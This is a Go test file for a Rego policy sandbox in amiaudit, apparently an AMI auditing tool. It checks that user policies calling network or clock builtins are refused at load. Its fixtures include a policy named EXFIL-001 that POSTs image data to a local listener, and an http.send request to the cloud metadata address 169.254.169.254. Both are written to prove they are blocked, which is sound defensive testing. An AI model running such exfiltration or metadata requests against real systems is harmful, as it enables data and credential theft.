package rules

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/open-policy-agent/opa/v1/ast"
	"github.com/open-policy-agent/opa/v1/rego"

	"github.com/amiaudit/amiaudit/internal/regotest"
)

// writeRule writes a user rule package whose findings rule has body as its
// first line, and returns the file's path.
func writeRule(t *testing.T, dir, id, body string) string {
	t.Helper()
	src := fmt.Sprintf(`# METADATA
# title: Test rule %[1]s
# custom:
#   id: %[1]s
#   severity: low
package amiaudit.rules.test.r%[2]s

findings contains f if {
	%[3]s
	some img in input.shared_images
	f := {
		"resource": {"type": "ami", "id": img.id, "arn": img.arn, "account": img.account, "region": img.region},
		"message": sprintf("AMI %%s seen by %[1]s.", [img.id]),
	}
}
`, id, strings.ReplaceAll(strings.ToLower(id), "-", "_"), body)
	path := filepath.Join(dir, strings.ToLower(id)+".rego")
	if err := os.WriteFile(path, []byte(src), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

// The builtins issue 16 names, and those OPA's metadata marks
// non-deterministic, are all refused; pure ones and amiaudit's own stay.
// https://www.openpolicyagent.org/docs/deployments/#capabilities
func TestSandboxRefusesWhatOPAMarksNondeterministic(t *testing.T) {
	s := CurrentSandbox()
	for _, name := range []string{"http.send", "net.lookup_ip_addr", "opa.runtime", "time.now_ns", "rand.intn", "uuid.rfc4122"} {
		if _, ok := s.Refused[name]; !ok {
			t.Errorf("%s is not refused", name)
		}
	}
	flagged := 0
	for _, b := range ast.CapabilitiesForThisVersion().Builtins {
		_, refused := s.Refused[b.Name]
		_, allowed := slices.BinarySearch(s.Allowed, b.Name)
		switch {
		case refused == allowed:
			t.Errorf("%s is refused=%v and allowed=%v", b.Name, refused, allowed)
		case b.Nondeterministic && !refused:
			t.Errorf("%s: OPA marks it non-deterministic but the sandbox allows it", b.Name)
		}
		if b.Nondeterministic {
			flagged++
		}
	}
	if flagged < 6 {
		t.Errorf("only %d builtins are marked non-deterministic: has OPA's metadata changed?", flagged)
	}
	for _, name := range []string{"uuid.parse", "rego.metadata.rule", "rego.metadata.chain", "sprintf", "time.parse_rfc3339_ns", "net.cidr_contains", "print", "trace"} {
		if _, ok := slices.BinarySearch(s.Allowed, name); !ok {
			t.Errorf("%s is pure and should be allowed", name)
		}
	}
	// Every builtin amiaudit registers (rego.RegisterBuiltin) is there
	// without being listed anywhere, unless it declares itself non-deterministic.
	ours := 0
	for _, b := range ast.Builtins {
		if !strings.HasPrefix(b.Name, "amiaudit.") {
			continue
		}
		ours++
		if _, ok := slices.BinarySearch(s.Allowed, b.Name); ok == b.Nondeterministic {
			t.Errorf("amiaudit builtin %s: allowed=%v, non-deterministic=%v", b.Name, ok, b.Nondeterministic)
		}
	}
	for _, name := range []string{DetectSecretsBuiltin, MetadataSecretsBuiltin, ImageReferencesBuiltin} {
		if _, ok := slices.BinarySearch(s.Allowed, name); !ok {
			t.Errorf("%s is not allowed", name)
		}
	}
	if ours < 3 {
		t.Errorf("found %d amiaudit builtins, want at least 3", ours)
	}
	if s.Capabilities.AllowNet == nil || len(s.Capabilities.AllowNet) != 0 {
		t.Errorf("AllowNet = %#v, want empty (no host)", s.Capabilities.AllowNet)
	}
}

// The few builtins refused although OPA does not flag them must still exist
// and still be unflagged: otherwise the supplement is stale.
func TestSandboxSupplementIsNeeded(t *testing.T) {
	for _, name := range unflaggedClockBuiltins {
		b, ok := ast.BuiltinMap[name]
		if !ok {
			t.Errorf("%s is no builtin of this OPA: drop it from unflaggedClockBuiltins", name)
			continue
		}
		if b.Nondeterministic {
			t.Errorf("OPA now marks %s non-deterministic: drop it from unflaggedClockBuiltins", name)
		}
	}
}

var refusalLine = regexp.MustCompile(`^(.+):(\d+):(\d+): builtin (\S+) is not allowed: ([^;]+); (.+) \(see docs/writing-rules\.md#sandbox\)$`)

// One user policy per refused builtin: Load refuses it with one line naming
// the file, line, column and builtin, and why.
func TestLoadRefusesEachSandboxedBuiltin(t *testing.T) {
	s := CurrentSandbox()
	for i, name := range s.RefusedNames() {
		t.Run(name, func(t *testing.T) {
			dir := t.TempDir()
			path := writeRule(t, dir, fmt.Sprintf("TEST-%03d", i+1), "x := "+regotest.BuiltinCall(t, name))
			_, err := Load(context.Background(), dir)
			var pe *PolicyError
			if !errors.As(err, &pe) {
				t.Fatalf("Load: %v, want a PolicyError", err)
			}
			if len(pe.Errors) != 1 {
				t.Fatalf("%d errors, want 1: %q", len(pe.Errors), pe.Errors)
			}
			m := refusalLine.FindStringSubmatch(pe.Error())
			if m == nil || strings.Contains(pe.Error(), "\n") {
				t.Fatalf("not one refusal line: %q", pe.Error())
			}
			if m[1] != filepath.ToSlash(path) || m[2] != "9" || m[3] != "7" || m[4] != name || m[5] != s.Refused[name] {
				t.Errorf("refusal %q: file %s line %s col %s builtin %s reason %q", pe.Error(), m[1], m[2], m[3], m[4], m[5])
			}
		})
	}
}

// A refused builtin is refused wherever it is called (nested in a term, in a
// helper function, in a comprehension) and as the target of with, which
// would otherwise be reported as a with target that names nothing.
func TestLoadRefusesBuiltinAnywhere(t *testing.T) {
	for _, tc := range []struct {
		name, body, want string
	}{
		{"nested", `x := {"r": [http.send({"method": "GET", "url": input.u})]}`, "9:14: builtin http.send"},
		{"comprehension", `x := [y | some y in input.xs; uuid.rfc4122(y) != ""]`, "9:32: builtin uuid.rfc4122"},
		{"every", `every y in input.xs { net.lookup_ip_addr(y) }`, "9:24: builtin net.lookup_ip_addr"},
		{"with target", `true with time.now_ns as 1`, "9:12: builtin time.now_ns"},
		{"with value", `count(input.xs) > 0 with count as opa.runtime`, "9:36: builtin opa.runtime"},
		{"clock hint", `time.now_ns() > 0`, "builtin time.now_ns is not allowed: it reads the clock, so the result depends on when amiaudit ran; use input.now_ns, the snapshot's collection time"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			writeRule(t, dir, "TEST-100", tc.body)
			_, err := Load(context.Background(), dir)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("Load: %v, want %q", err, tc.want)
			}
		})
	}
	// Through a helper function of another file of another package.
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "helper.rego"), []byte("package helpers\n\nnow := time.now_ns()\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	writeRule(t, dir, "TEST-101", "data.helpers.now > 0")
	_, err := Load(context.Background(), dir)
	if err == nil || !strings.Contains(err.Error(), "helper.rego:3:8: builtin time.now_ns is not allowed") {
		t.Fatalf("Load: %v", err)
	}
}

// LoadFiles, which evidence verification uses to replay a bundle's policies,
// refuses them in the same way: a tampered bundle cannot reach the network
// while it is verified.
func TestLoadFilesRefuses(t *testing.T) {
	dir := t.TempDir()
	path := writeRule(t, dir, "TEST-300", `x := http.send({"method": "GET", "url": "http://169.254.169.254/"})`)
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	_, err = LoadFiles(context.Background(), []PolicyFile{{Name: "bundle/policies/team.rego", Content: b}})
	if err == nil || err.Error() != "bundle/policies/team.rego:9:7: "+refusalMessage("http.send", "it reaches the network") {
		t.Fatalf("LoadFiles: %v", err)
	}
}

// A policy's own function that happens to share a refused builtin's name is
// its own, pure code: it is not refused.
func TestSandboxOwnFunctionNamedLikeBuiltin(t *testing.T) {
	dir := t.TempDir()
	path := writeRule(t, dir, "TEST-200", `x := http.send(1)`)
	f, err := os.OpenFile(path, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	fmt.Fprintln(f, "\nhttp.send(v) := v + 1")
	f.Close()
	if _, err := Load(context.Background(), dir); err != nil {
		t.Fatalf("Load: %v", err)
	}
}

// Every built-in policy compiles in the sandbox, and the compiler the engine
// evaluates with has exactly the sandbox's builtins.
func TestBuiltinPoliciesCompileInSandbox(t *testing.T) {
	e, err := Load(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	s := CurrentSandbox()
	caps := e.compiler.Capabilities()
	var got []string
	for _, b := range caps.Builtins {
		got = append(got, b.Name)
	}
	slices.Sort(got)
	if !slices.Equal(got, s.Allowed) {
		t.Errorf("the compiler's builtins differ from the sandbox's allowed set")
	}
	for name := range s.Refused {
		if _, ok := slices.BinarySearch(got, name); ok {
			t.Errorf("the compiler allows %s", name)
		}
	}
}

// A user policy built from ordinary builtins (strings, regex, time parsing,
// uuid.parse, metadata, amiaudit's detectors) still loads and runs.
func TestSandboxOrdinaryBuiltinsRun(t *testing.T) {
	dir := t.TempDir()
	writeRule(t, dir, "ORG-001", `meta := rego.metadata.rule()
	count(meta) >= 0
	uuid.parse("00000000-0000-4000-8000-000000000000").version == 4
	regex.match("^[0-9]{12}$", "123456789012")
	time.parse_rfc3339_ns("2026-01-01T00:00:00Z") < input.now_ns
	count(amiaudit.detect_secrets("nothing here")) == 0
	startswith(lower("AMI-X"), "ami")
	net.cidr_contains("10.0.0.0/8", "10.1.2.3")`)
	e, err := Load(context.Background(), dir)
	if err != nil {
		t.Fatal(err)
	}
	fs, err := e.Evaluate(context.Background(), loadExample(t), exampleConfig(t))
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, f := range fs {
		if f.RuleID == "ORG-001" {
			n++
		}
	}
	if n == 0 {
		t.Fatal("the user rule produced no finding")
	}
}

// The sandbox is part of the policy digest: the same files in another
// sandbox give another digest, and Digest agrees with the engine's.
func TestDigestCoversSandbox(t *testing.T) {
	files, err := policyFiles(nil, false)
	if err != nil {
		t.Fatal(err)
	}
	s := CurrentSandbox()
	narrower := &Sandbox{Allowed: slices.DeleteFunc(slices.Clone(s.Allowed), func(n string) bool { return n == "sprintf" })}
	otherOPA := &Sandbox{Allowed: append(slices.Clone(s.Allowed), "http.send")}
	slices.Sort(otherOPA.Allowed)
	d := digest(files, s)
	if d == digest(files, narrower) || d == digest(files, otherOPA) {
		t.Error("the digest does not change with the sandbox")
	}
	if d != digest(files, CurrentSandbox()) {
		t.Error("the digest is not stable")
	}
	e, err := Load(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if b, _ := BuiltinDigest(); e.Digest() != d || b != d {
		t.Errorf("engine digest %s, BuiltinDigest %s, digest %s", e.Digest(), b, d)
	}
}

// listener counts the TCP connections made to it.
type listener struct {
	net.Listener
	accepted atomic.Int64
}

func listen(t *testing.T) *listener {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	l := &listener{Listener: ln}
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			l.accepted.Add(1)
			c.Close()
		}
	}()
	t.Cleanup(func() { ln.Close() })
	return l
}

// No network connection is attempted while evaluating a policy set. The
// listener is shown to see a call OPA makes outside the sandbox; in the
// sandbox the policy that would make it is refused at load, and the built-in
// policies with an ordinary user policy evaluate a snapshot that names the
// listener's address without a connection reaching it.
func TestNoNetworkWhileEvaluating(t *testing.T) {
	ctx := context.Background()
	l := listen(t)
	url := "http://" + l.Addr().String() + "/"
	dir := t.TempDir()
	writeRule(t, dir, "EXFIL-001", fmt.Sprintf(`http.send({"method": "POST", "url": %q, "body": input.images, "timeout": "2s"})`, url))

	// Control: without the sandbox, OPA sends the request.
	files, err := policyFiles([]string{dir}, false)
	if err != nil {
		t.Fatal(err)
	}
	modules, err := parseModules(files[len(files)-1:])
	if err != nil {
		t.Fatal(err)
	}
	open := ast.NewCompiler()
	if open.Compile(modules); open.Failed() {
		t.Fatal(open.Errors)
	}
	if _, err := rego.New(rego.Compiler(open), rego.Query("data.amiaudit.rules.test.rexfil_001.findings"), rego.Input(map[string]any{"images": []any{}, "shared_images": []any{}})).Eval(ctx); err != nil {
		t.Fatal(err)
	}
	waitFor(t, func() bool { return l.accepted.Load() == 1 })

	// The sandbox refuses the policy at load.
	l.accepted.Store(0)
	if _, err := Load(ctx, dir); err == nil || !strings.Contains(err.Error(), "builtin http.send is not allowed") {
		t.Fatalf("Load: %v", err)
	}

	// A normal policy set over a snapshot that names the listener.
	ordinary := t.TempDir()
	writeRule(t, ordinary, "ORG-002", `regex.match("^http://", input.images[_].description)`)
	e, err := Load(ctx, ordinary)
	if err != nil {
		t.Fatal(err)
	}
	doc := loadExample(t)
	for i := range doc.Images {
		doc.Images[i].Description = url
	}
	if _, err := e.Evaluate(ctx, doc, exampleConfig(t)); err != nil {
		t.Fatal(err)
	}
	time.Sleep(100 * time.Millisecond)
	if n := l.accepted.Load(); n != 0 {
		t.Fatalf("%d connections reached the listener during evaluation", n)
	}
}

func waitFor(t *testing.T, cond func() bool) {
	t.Helper()
	for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline); time.Sleep(10 * time.Millisecond) {
		if cond() {
			return
		}
	}
	t.Fatal("timed out")
}

// writingRulesSection is the "## title" section of docs/writing-rules.md,
// from its heading to the next.
func writingRulesSection(t *testing.T, title string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("..", "docs", "writing-rules.md"))
	if err != nil {
		t.Fatal(err)
	}
	text := string(b)
	start := strings.Index(text, "\n## "+title+"\n")
	if start < 0 {
		t.Fatalf("docs/writing-rules.md has no %s section", title)
	}
	section := text[start+1:]
	if end := strings.Index(section[3:], "\n## "); end >= 0 {
		section = section[:end+3]
	}
	return section
}

// docs/writing-rules.md lists exactly the builtins the sandbox refuses, with
// the same reasons.
func TestSandboxDocsListRefused(t *testing.T) {
	section := writingRulesSection(t, "Sandbox")
	documented := map[string]string{}
	for _, m := range regexp.MustCompile("(?m)^\\| `([a-z0-9_.]+)` \\| (.+) \\|$").FindAllStringSubmatch(section, -1) {
		documented[m[1]] = m[2]
	}
	s := CurrentSandbox()
	for name, reason := range s.Refused {
		if documented[name] != reason {
			t.Errorf("docs/writing-rules.md#sandbox: %s is documented as %q, the sandbox refuses it because %q", name, documented[name], reason)
		}
	}
	for name := range documented {
		if _, ok := s.Refused[name]; !ok {
			t.Errorf("docs/writing-rules.md#sandbox lists %s as refused, the sandbox allows it", name)
		}
	}
	// Every builtin the Allowed paragraph names can be called.
	allowed := section[strings.Index(section, "**Allowed**"):]
	allowed = allowed[:strings.Index(allowed, "\n\n")]
	callable := s.Callable()
	named := 0
	for _, m := range regexp.MustCompile("`([a-z0-9_]+(?:\\.[a-z0-9_]+)+)`").FindAllStringSubmatch(allowed, -1) {
		named++
		if _, ok := slices.BinarySearch(callable, m[1]); !ok {
			t.Errorf("docs/writing-rules.md#sandbox says %s is allowed; it is not callable", m[1])
		}
	}
	if named < 5 {
		t.Errorf("found %d builtins in the Allowed paragraph", named)
	}
}

// The example configuration in docs/configuration.md parses, policy_data included.
func TestConfigurationDocExample(t *testing.T) {
	b, err := os.ReadFile(filepath.Join("..", "docs", "configuration.md"))
	if err != nil {
		t.Fatal(err)
	}
	m := regexp.MustCompile("(?s)```yaml\n(.*?)```").FindSubmatch(b)
	if m == nil {
		t.Fatal("no yaml example")
	}
	cfg, err := ParseConfig("docs/configuration.md", m[1])
	if err != nil {
		t.Fatal(err)
	}
	if got := cfg.policyDataTerm().String(); !strings.Contains(got, `"approved_base_images": ["ami-0a1b2c3d4e5f60001"]`) {
		t.Errorf("policy_data = %s", got)
	}
}

// BenchmarkLoad is the cost of loading the built-in policies, sandbox
// included; BenchmarkSandboxCheck the refused-builtin scan alone.
func BenchmarkLoad(b *testing.B) {
	for b.Loop() {
		if _, err := Load(context.Background()); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkSandboxCheck(b *testing.B) {
	modules := builtinModules(b, false)
	for b.Loop() {
		s := CurrentSandbox()
		if errs := s.check(modules); len(errs) > 0 {
			b.Fatal(errs)
		}
	}
}
